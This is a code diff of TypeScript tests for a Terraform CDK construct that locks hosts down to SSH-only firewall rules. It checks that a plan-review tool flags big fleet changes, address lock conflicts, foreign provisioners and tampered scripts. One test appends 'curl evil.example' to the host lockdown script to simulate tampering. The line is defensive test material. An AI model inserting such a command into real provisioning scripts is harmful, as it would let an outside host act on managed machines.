@@ -1,13 +1,14 @@
 /** Reviews of plans that are large, mixed with what is not ours, or not as this construct makes them. */
 import { mkdirSync, writeFileSync } from "node:fs";
 import { DataResource, TerraformOutput, type TerraformStack, TerraformVariable } from "cdktf";
+import { defined, items } from "../support/required";
 import { AllowedSource, type HostProps, SshOnlyFirewall } from "../../lib/index";
 import { hostProgramVersion } from "../../lib/host/program";
 import { fingerprint } from "../../lib/contract/fingerprint";
 import { readPlan } from "../../lib/review/plan";
 import { reviewJson, reviewPlan } from "../../lib/review/review";
 import { expectGolden } from "../review/support/golden";
-import { type Configuration } from "./planned";
+import { type Configuration } from "./support/plan-project";
 import {
   allowFrom,
   connection,
@@ -18,12 +19,12 @@ import {
   kinds,
   outcomes,
   reviewed,
-} from "./reviewed";
+} from "./support/describe-reviews";
 
 describeReviews("the review of a plan", ({ project, firewall, change }) => {
   test("of one ruleset change of 400 hosts is one diff and a list", async () => {
     const made = await project();
-    const [[key, { address }], ...others] = Object.entries(hosts(400, 3));
+    const [[key, { address }], ...others] = items(Object.entries(hosts(400, 3)), 1);
     await made.apply(firewall(made, { hosts: { [key]: address } }));
     made.multiply(
       key,
@@ -35,7 +36,7 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
     expect(review.planned.text).toContain("Plan: 401 to add, 0 to change, 401 to destroy.");
     expect(kinds(review)).toEqual([]);
     expect(review.rulesetChanges).toHaveLength(1);
-    expect(review.rulesetChanges[0].hosts).toEqual(Object.keys(hosts(400, 3)));
+    expect(defined(review.rulesetChanges[0]).hosts).toEqual(Object.keys(hosts(400, 3)));
     expectGolden("fleet-of-400.md", review.markdown);
   });
 
@@ -157,7 +158,7 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
     await made.apply(firewall(made, { hosts: hosts(1) }));
     const review = reviewed(await made.plan(firewall(made, { hosts: { renamed: "10.0.0.1" } })));
     expect(details(review, "owner")).toEqual([
-      "renamed: 10.0.0.1 is locked as web-1 until now; its lock may be refused, unless takeOver is set",
+      "renamed: 10.0.0.1 is locked as web-1 until now; its lock may be refused unless takeOver is set",
     ]);
   });
 
@@ -168,11 +169,11 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
     const own = { ...hosts(2), "web-1": { address: "10.0.0.1", connection: elsewhere } };
     const review = reviewed(await made.plan(firewall(made, { hosts: own, connection: {} })));
     expect(outcomes(review)).toEqual({ "web-1": "update", "web-2": "update" });
-    expect(review.hosts[0].why).toHaveLength(1);
-    expect(review.hosts[0].why[0]).toMatch(/^remembered anew: .*\bbastion_host\b.*\buser\b/);
-    expect(review.hosts[1].why[0]).toMatch(/^remembered anew: .*\bhost_key\b/);
+    expect(defined(review.hosts[0]).why).toHaveLength(1);
+    expect(defined(review.hosts[0]).why[0]).toMatch(/^updated in Terraform: .*\bbastion_host\b.*\buser\b/);
+    expect(defined(review.hosts[1]).why[0]).toMatch(/^updated in Terraform: .*\bhost_key\b/);
     expect(review.markdown).not.toContain("203.0.113.66");
-    expect(review.markdown).toContain("Of 2 hosts: 2 remembered anew.**");
+    expect(review.markdown).toContain("Of 2 hosts: 2 updated in Terraform only.**");
     expect(details(review, "host-key")).toEqual([
       "web-2: it was pinned until now; another machine could answer in its place",
     ]);
@@ -187,12 +188,12 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
     const [made, fresh] = [await project(), await project()];
     const both = made.configuration(two(hosts(1)));
     expect(details(reviewed(await made.plan(both)), "owner")).toEqual([
-      "fleet/web-1: 10.0.0.1 is the address of two/other too; its lock may be refused, unless takeOver is set",
-      "two/other: 10.0.0.1 is the address of fleet/web-1 too; its lock may be refused, unless takeOver is set",
+      "fleet/web-1: 10.0.0.1 is also the address of two/other; its lock may be refused unless takeOver is set",
+      "two/other: 10.0.0.1 is also the address of fleet/web-1; its lock may be refused unless takeOver is set",
     ]);
     await made.apply(firewall(made, { hosts: hosts(1) }));
     expect(details(reviewed(await made.plan(both)), "owner")).toEqual([
-      "two/other: 10.0.0.1 is the address of fleet/web-1 too; its lock may be refused, unless takeOver is set",
+      "two/other: 10.0.0.1 is also the address of fleet/web-1; its lock may be refused unless takeOver is set",
     ]);
     // Behind one address, at ports of their own.
     const apart = { "web-1": { address: "10.0.0.1", connection: { ...connection, port: 2201 } } };
@@ -203,15 +204,15 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
     const swapped = { hosts: { "web-1": "10.0.0.2", "web-2": "10.0.0.1" } };
     const review = await change({ hosts: hosts(2) }, swapped);
     expect(details(review, "owner")).toEqual([
-      "web-1: 10.0.0.2 is locked as web-2 until now; its lock may be refused, unless takeOver is set",
-      "web-2: 10.0.0.1 is locked as web-1 until now; its lock may be refused, unless takeOver is set",
+      "web-1: 10.0.0.2 is locked as web-2 until now; its lock may be refused unless takeOver is set",
+      "web-2: 10.0.0.1 is locked as web-1 until now; its lock may be refused unless takeOver is set",
     ]);
   });
 
   test("of provisioners that are not the construct's names them", async () => {
     const made = await project();
     const configuration = firewall(made, { hosts: hosts(1) });
-    const lockdown = configuration.resource?.terraform_data.fleet_lockdown as { provisioner: unknown[] };
+    const lockdown = defined(configuration.resource?.terraform_data).fleet_lockdown as { provisioner: unknown[] };
     lockdown.provisioner.push({ "local-exec": { command: "true" } });
     const review = reviewed(await made.plan(configuration));
     expect(details(review, "unclear")).toEqual([
@@ -244,15 +245,15 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
   ])("of a script with %s says that it is another one", async (_what, alter) => {
     const made = await project();
     const configuration = firewall(made, { hosts: hosts(1) });
-    const lockdown = configuration.resource?.terraform_data.fleet_lockdown as {
+    const lockdown = defined(configuration.resource?.terraform_data).fleet_lockdown as {
       provisioner: Array<{ "remote-exec": { inline: string[] } }>;
     };
-    const { inline } = lockdown.provisioner[0]["remote-exec"];
-    const [script] = inline;
+    const { inline } = defined(lockdown.provisioner[0])["remote-exec"];
+    const [script] = items(inline, 1);
     inline[0] = alter(script);
     expect(inline[0]).not.toBe(script);
     expect(details(reviewed(await made.plan(configuration)), "unclear")).toEqual([
-      "-: terraform_data.fleet_lockdown uploads another script than this version of ssh-only-firewall would: read it, or review with the version that the configuration was made with",
+      "-: terraform_data.fleet_lockdown uploads a script that this version of ssh-only-firewall does not write: read it, or review with the version that wrote the configuration",
     ]);
   });
 
@@ -263,7 +264,7 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
       const configuration = firewall(made, { hosts: hosts(1) }) as { locals: Record<string, string> };
       configuration.locals[name] += "curl evil.example\n";
       expect(details(reviewed(await made.plan(configuration)), "unclear")).toEqual([
-        "-: terraform_data.fleet_lockdown uploads another script than this version of ssh-only-firewall would: read it, or review with the version that the configuration was made with",
+        "-: terraform_data.fleet_lockdown uploads a script that this version of ssh-only-firewall does not write: read it, or review with the version that wrote the configuration",
       ]);
     },
   );
@@ -271,7 +272,7 @@ describeReviews("the review of a plan", ({ project, firewall, change }) => {
   test("of a lockdown that lost a trigger reports it, and does not call it something else", async () => {
     const made = await project();
     const configuration = firewall(made, { hosts: hosts(1) });
-    const lockdown = configuration.resource?.terraform_data.fleet_lockdown as {
+    const lockdown = defined(configuration.resource?.terraform_data).fleet_lockdown as {
       triggers_replace: Record<string, string>;
     };
     delete lockdown.triggers_replace.hold;
